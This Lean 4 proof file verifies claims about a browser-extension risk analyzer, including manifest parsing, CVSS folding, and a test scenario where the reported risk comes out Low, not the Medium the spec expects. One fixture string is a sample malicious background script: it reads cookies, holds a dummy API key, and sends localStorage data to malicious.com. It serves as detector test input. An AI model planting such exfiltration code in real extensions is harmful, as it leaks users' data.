/-- C8. The pipeline is all-or-nothing: it succeeds exactly when a
`manifest.json` entry exists and parses as JSON, it fails with
`manifestNotFound` when the entry is missing and with `manifestParseError`
when parsing fails; and on every successful analysis the `icon` field is
exactly `resolveIcon`'s output, which is `none` under each icon failure
mode — missing `icons` field, no preferred key resolving in the
`48`/`128`/`16` chain, or a referenced entry absent from the archive — so an
icon failure never raises an error and simply leaves the result without an
icon. -/
theorem c8_all_or_nothing :
    ∀ (files : List Entry) (pm : String → Option Manifest)
      (lm : String → String → Option String) (b64 : String → String)
      (mo : String → Option ℚ) (rep : Option ReputationData),
      (isSuccess (analyzeExtensionCore files pm lm b64 mo rep) = true ↔
        ∃ mc, findEntry files "manifest.json" = some mc ∧
          ∃ m, pm mc = some m) ∧
      (findEntry files "manifest.json" = none →
        analyzeExtensionCore files pm lm b64 mo rep =
          .error .manifestNotFound) ∧
      (∀ mc, findEntry files "manifest.json" = some mc → pm mc = none →
        analyzeExtensionCore files pm lm b64 mo rep =
          .error .manifestParseError) ∧
      (∀ mc m r, findEntry files "manifest.json" = some mc → pm mc = some m →
        analyzeExtensionCore files pm lm b64 mo rep = .ok r →
        r.icon = resolveIcon files b64 m ∧
        (m.icons = none → r.icon = none) ∧
        (∀ icons, m.icons = some icons → iconChain icons = none →
          r.icon = none) ∧
        (∀ icons p, m.icons = some icons → iconChain icons = some p →
          findEntry files p = none → r.icon = none)) := by
  intro files pm lm b64 mo rep
  refine ⟨⟨?_, ?_⟩, ?_, ?_, ?_⟩
  · intro h
    rcases hf : findEntry files "manifest.json" with _ | mc
    · rw [core_err_notFound hf] at h
      exact absurd h (by simp [isSuccess])
    · rcases hp : pm mc with _ | m
      · rw [core_err_parse hf hp] at h
        exact absurd h (by simp [isSuccess])
      · exact ⟨mc, rfl, m, hp⟩
  · rintro ⟨mc, hf, m, hp⟩
    rw [core_ok hf hp]
    rfl
  · intro hf
    exact core_err_notFound hf
  · intro mc hf hp
    exact core_err_parse hf hp
  · intro mc m r hf hp hok
    rw [core_ok hf hp] at hok
    cases Except.ok.inj hok
    refine ⟨rfl, ?_, ?_, ?_⟩
    · intro hnone
      show resolveIcon files b64 m = none
      simp only [resolveIcon, hnone]
    · intro icons hic hchain
      show resolveIcon files b64 m = none
      simp only [resolveIcon, hic, hchain]
    · intro icons p hic hchain hfind
      show resolveIcon files b64 m = none
      simp only [resolveIcon, hic, hchain]
      by_cases he : p.data.isEmpty
      · rw [if_pos he]
      · rw [if_neg he]
        simp only [hfind]

/-- The empty parsed manifest (all fields absent). -/
def emptyManifest : Manifest := ⟨none, none, none, none, none, none, none⟩

/-- A parsed manifest whose `icons` maps `"48"` to an entry that does not
exist in the witness archive. -/
def iconManifest : Manifest :=
  ⟨none, none, none, none, none, some [("48", "icon.png")], none⟩

/-- Witness for C8: a one-entry archive whose manifest parses succeeds, and
its `icons` reference to the missing `icon.png` leaves the result without an
icon rather than failing. -/
theorem c8_all_or_nothing_witness :
    isSuccess (analyzeExtensionCore [⟨"manifest.json", "\x7b\x7d"⟩]
      (fun _ => some iconManifest) (fun _ _ => none) (fun _ => "")
      (fun _ => none) none) = true ∧
    (mkResult [⟨"manifest.json", "\x7b\x7d"⟩] (fun _ _ => none) (fun _ => "")
      (fun _ => none) none iconManifest).icon = none :=
  ⟨(c8_all_or_nothing [⟨"manifest.json", "\x7b\x7d"⟩] (fun _ => some iconManifest)
      (fun _ _ => none) (fun _ => "") (fun _ => none) none).1.mpr
      ⟨"\x7b\x7d", rfl, iconManifest, rfl⟩,
    ((c8_all_or_nothing [⟨"manifest.json", "\x7b\x7d"⟩] (fun _ => some iconManifest)
      (fun _ _ => none) (fun _ => "") (fun _ => none) none).2.2.2 "\x7b\x7d"
      iconManifest _ rfl rfl
      (@core_ok [⟨"manifest.json", "\x7b\x7d"⟩] (fun _ => some iconManifest)
        (fun _ _ => none) (fun _ => "") (fun _ => none) none "\x7b\x7d"
        iconManifest rfl rfl)).2.2.2 [("48", "icon.png")] "icon.png" rfl rfl rfl⟩

/-- The `reduce` fold of the result's `cvssScore` agrees with the plain
maximum-with-default-0 over the present scores. -/
theorem reduceCvss_eq_spec (vs : List Vulnerability) :
    reduceCvss vs = specMaxCvss vs := by
  unfold reduceCvss specMaxCvss
  suffices h : ∀ a : ℚ, 0 ≤ a →
      vs.foldl (fun a v => max a (v.score.getD 0)) a =
        (vs.filterMap (·.score)).foldl max a by
    exact h 0 le_rfl
  induction vs with
  | nil => intro a _; rfl
  | cons v rest ih =>
    intro a ha
    match hs : v.score with
    | none =>
      simp only [List.foldl_cons, List.filterMap_cons, hs, Option.getD_none]
      rw [max_eq_left ha]
      exact ih a ha
    | some s =>
      simp only [List.foldl_cons, List.filterMap_cons, hs, Option.getD_some]
      exact ih (max a s) (le_trans ha (le_max_left a s))

/-- C10. The result record carries a `cvssScore` field equal to the maximum
CVSS score among the (deduplicated) matched vulnerabilities — 0 when none
matched — and on every successful analysis that field is the fold over
exactly the vulnerability list matched from the scanned dependencies. -/
theorem c10_cvss_field :
    (∀ vs : List Vulnerability,
      reduceCvss vs = specMaxCvss vs ∧ (vs = [] → reduceCvss vs = 0)) ∧
    (∀ (files : List Entry) (pm : String → Option Manifest)
      (lm : String → String → Option String) (b64 : String → String)
      (mo : String → Option ℚ) (rep : Option ReputationData)
      (r : AnalysisResult),
      analyzeExtensionCore files pm lm b64 mo rep = .ok r →
      r.cvssScore = specMaxCvss r.vulnerabilities ∧
      r.vulnerabilities = detectVulnerabilities r.dependencies) := by
  constructor
  · intro vs
    refine ⟨reduceCvss_eq_spec vs, ?_⟩
    intro h
    rw [h]
    rfl
  · intro files pm lm b64 mo rep r h
    rcases hf : findEntry files "manifest.json" with _ | mc
    · rw [core_err_notFound hf] at h
      exact absurd h (by simp)
    · rcases hp : pm mc with _ | m
      · rw [core_err_parse hf hp] at h
        exact absurd h (by simp)
      · rw [core_ok hf hp] at h
        cases Except.ok.inj h
        exact ⟨reduceCvss_eq_spec _, rfl⟩

/-- Witness for C10 with an empty vulnerability list. -/
theorem c10_cvss_field_witness : reduceCvss [] = 0 :=
  (c10_cvss_field.1 []).2 rfl

/-- Spec-side (amended) manifest-version resolution: 2 when the field is
absent or 0 (JS falsy), otherwise the declared value unchanged. -/
def specManifestVersion (mv : Option ℤ) : ℤ :=
  match mv with
  | none => 2
  | some v => if v = 0 then 2 else v

/-- C3 counterexample: a manifest declaring `manifest_version: 4` is
reported as version 4, not 2 — `manifest.manifest_version || 2` only
defaults on falsy values. -/
theorem c3_counterexample :
    ∃ r, analyzeExtensionCore
        [⟨"manifest.json", "\x7b\"manifest_version\":4\x7d"⟩]
        (fun _ => some ⟨none, none, some 4, none, none, none, none⟩)
        (fun _ _ => none) (fun _ => "") (fun _ => none) none = .ok r ∧
      r.manifestVersion = 4 ∧ ¬ r.manifestVersion = 2 := by
  refine ⟨_, rfl, rfl, by decide⟩

/-- C3 (amended). The reported `manifestVersion` is 2 when the
`manifest_version` field is absent or 0 (falsy), and otherwise is the
declared value unchanged (so 4 stays 4); the +5 risk term applies exactly
when the resolved version equals 2. -/
theorem c3_manifest_version (files : List Entry)
    (pm : String → Option Manifest) (lm : String → String → Option String)
    (b64 : String → String) (mo : String → Option ℚ)
    (rep : Option ReputationData) (mc : String) (m : Manifest)
    (hf : findEntry files "manifest.json" = some mc) (hp : pm mc = some m) :
    ∃ r, analyzeExtensionCore files pm lm b64 mo rep = .ok r ∧
      r.manifestVersion = specManifestVersion m.manifest_version ∧
      (manifestTerm r.manifestVersion = 5 ↔
        specManifestVersion m.manifest_version = 2) := by
  have hv : jsOrInt m.manifest_version 2 = specManifestVersion m.manifest_version := by
    unfold jsOrInt specManifestVersion
    cases m.manifest_version <;> rfl
  refine ⟨_, core_ok hf hp, hv, ?_⟩
  show manifestTerm (jsOrInt m.manifest_version 2) = 5 ↔ _
  rw [hv]
  unfold manifestTerm
  split_ifs with h
  · simp [h]
  · simp [h]

/-- Witness for C3 at a manifest declaring version 4: the resolved version
is `specManifestVersion (some 4)` and the +5 term does not apply. -/
theorem c3_manifest_version_witness :
    ∃ r, analyzeExtensionCore
        [⟨"manifest.json", "\x7b\"manifest_version\":4\x7d"⟩]
        (fun _ => some ⟨none, none, some 4, none, none, none, none⟩)
        (fun _ _ => none) (fun _ => "") (fun _ => none) none = .ok r ∧
      r.manifestVersion = specManifestVersion (some 4) ∧
      (manifestTerm r.manifestVersion = 5 ↔ specManifestVersion (some 4) = 2) :=
  c3_manifest_version [⟨"manifest.json", "\x7b\"manifest_version\":4\x7d"⟩]
    (fun _ => some ⟨none, none, some 4, none, none, none, none⟩)
    (fun _ _ => none) (fun _ => "") (fun _ => none) none
    "\x7b\"manifest_version\":4\x7d" ⟨none, none, some 4, none, none, none, none⟩
    rfl rfl

/-! ## Claim C2: end-to-end scenario B (the archive of the repository's own
`should detect API calls and secrets` test). -/

/-- The scenario-B manifest text. -/
def scenarioManifestJson : String :=
  "\x7b\"name\":\"Sensitive Extension\",\"version\":\"1.0\",\"manifest_version\":3,\"permissions\":[\"cookies\"]\x7d"

/-- The scenario-B background script: a `chrome.cookies.get` call, an inline
`AIzaSy...`-shaped credential assignment, and `fetch`/`localStorage` use. -/
def scenarioBackgroundJs : String :=
  "\n      chrome.cookies.get(\x7b name: \"session\" \x7d);\n      const api_key = \"AIzaSyB-123456789012345678901234567890\";\n      fetch(\"https://malicious.com/steal?data=\" + localStorage.getItem(\"data\"));\n    "

/-- The scenario-B archive. -/
def scenarioFiles : List Entry :=
  [⟨"manifest.json", scenarioManifestJson⟩,
   ⟨"background.js", scenarioBackgroundJs⟩]

/-- The parse of the scenario-B manifest. -/
def scenarioManifest : Manifest :=
  ⟨some "Sensitive Extension", some "1.0", some 3, some ["cookies"], none,
    none, none⟩

/-- `JSON.parse` on the scenario-B manifest text. -/
def scenarioParse : String → Option Manifest := fun s =>
  if s = scenarioManifestJson then some scenarioManifest else none

/-- The CVSS term of an empty vulnerability list is 0. -/
theorem cvssTerm_nil : cvssTerm [] = 0 := by
  unfold cvssTerm highestCVSS
  norm_num

/-- A risk total whose raw sum stays below 24.5 gets level Low. -/
theorem riskLevel_low_of_lt (ps : List PermissionInfo)
    (vs : List Vulnerability) (mv : ℤ) (obf : ℚ)
    (h : (permissionScore ps : ℝ) + (cveCountScore vs : ℝ) + cvssTerm vs +
      (manifestTerm mv : ℝ) + (obf : ℝ) + 1 / 2 < 25) :
    (calculateDetailedRisk ps vs mv obf).level = .Low := by
  show riskLevelOf (min 100 (jsRound _)) = .Low
  have ht : jsRound ((permissionScore ps : ℝ) + (cveCountScore vs : ℝ) +
      cvssTerm vs + (manifestTerm mv : ℝ) + (obf : ℝ)) < 25 := by
    unfold jsRound
    rw [Int.floor_lt]
    push_cast
    linarith
  have hmin : min 100 (jsRound ((permissionScore ps : ℝ) +
      (cveCountScore vs : ℝ) + cvssTerm vs + (manifestTerm mv : ℝ) +
      (obf : ℝ))) < 25 := lt_of_le_of_lt (min_le_right _ _) ht
  unfold riskLevelOf
  split_ifs <;> first | rfl | omega

set_option maxRecDepth 100000 in
/-- C2 evidence. On the scenario-B archive the analysis succeeds, `apiCalls`
contains `chrome.cookies`, `fetch(` and `localStorage`, `secrets` is
non-empty — but `riskLevel` is `Low`, not the `Medium` the specification and
the repository's own test expect: the permission term is 5 (cookies, High),
no vulnerability matches, manifest version 3 adds 0, and the obfuscation
term is at most 10, so the total is at most 15, below the Medium threshold
of 25. -/
theorem c2_scenario_b :
    ∃ r, analyzeExtensionCore scenarioFiles scenarioParse (fun _ _ => none)
        (fun _ => "") (fun _ => none) none = .ok r ∧
      "chrome.cookies" ∈ r.apiCalls ∧
      "fetch(" ∈ r.apiCalls ∧
      "localStorage" ∈ r.apiCalls ∧
      r.secrets ≠ [] ∧
      r.riskLevel = .Low ∧ ¬ r.riskLevel = .Medium := by
  have hp : scenarioParse scenarioManifestJson = some scenarioManifest := by
    unfold scenarioParse
    rw [if_pos rfl]
  have hperm : analyzePermissions (scenarioManifest.permissions.getD [])
      (scenarioManifest.host_permissions.getD []) =
      [⟨"cookies", .High, "Access and modify cookies for any website."⟩] := by
    decide
  have hdeps : (analyzeSourceCode scenarioFiles).dependencies = [] :=
    (by decide : dependenciesOf scenarioFiles = [])
  have hmv : jsOrInt scenarioManifest.manifest_version 2 = 3 := by decide
  have hlow : (mkResult scenarioFiles (fun _ _ => none) (fun _ => "")
      (fun _ => none) none scenarioManifest).riskLevel = .Low := by
    show (calculateDetailedRisk
        (analyzePermissions (scenarioManifest.permissions.getD [])
          (scenarioManifest.host_permissions.getD []))
        (detectVulnerabilities (analyzeSourceCode scenarioFiles).dependencies)
        (jsOrInt scenarioManifest.manifest_version 2)
        ((analyzeSourceCode scenarioFiles).obfuscationScore : ℚ)).level = .Low
    rw [hperm, hdeps, hmv]
    apply riskLevel_low_of_lt
    have hps : permissionScore
        [⟨"cookies", .High, "Access and modify cookies for any website."⟩] = 5 := by
      unfold permissionScore permissionScoreRaw riskWeight
      norm_num
    have hcc : cveCountScore (detectVulnerabilities []) = 0 := by
      unfold cveCountScore detectVulnerabilities
      norm_num
    have hct : cvssTerm (detectVulnerabilities []) = 0 := cvssTerm_nil
    have hmt : manifestTerm 3 = 0 := by
      unfold manifestTerm
      norm_num
    have hobfR : (((analyzeSourceCode scenarioFiles).obfuscationScore : ℕ) : ℝ) ≤ 10 := by
      rcases obfuscationScore_cases scenarioFiles with h | h | h <;>
        · show ((obfuscationScoreOf scenarioFiles : ℕ) : ℝ) ≤ 10
          rw [h]
          norm_num
    rw [hps, hcc, hct, hmt]
    push_cast at hobfR ⊢
    linarith
  refine ⟨_, @core_ok scenarioFiles scenarioParse (fun _ _ => none)
    (fun _ => "") (fun _ => none) none scenarioManifestJson scenarioManifest
    rfl hp, ?_, ?_, ?_, ?_, hlow, ?_⟩
  · exact (by decide : "chrome.cookies" ∈ apiCallsOf scenarioFiles)
  · exact (by decide : "fetch(" ∈ apiCallsOf scenarioFiles)
  · exact (by decide : "localStorage" ∈ apiCallsOf scenarioFiles)
  · exact (by decide : ¬ secretsOf scenarioFiles = [])
  · intro hmed
    rw [hlow] at hmed
    exact Risk.noConfusion hmed

end Analyzer
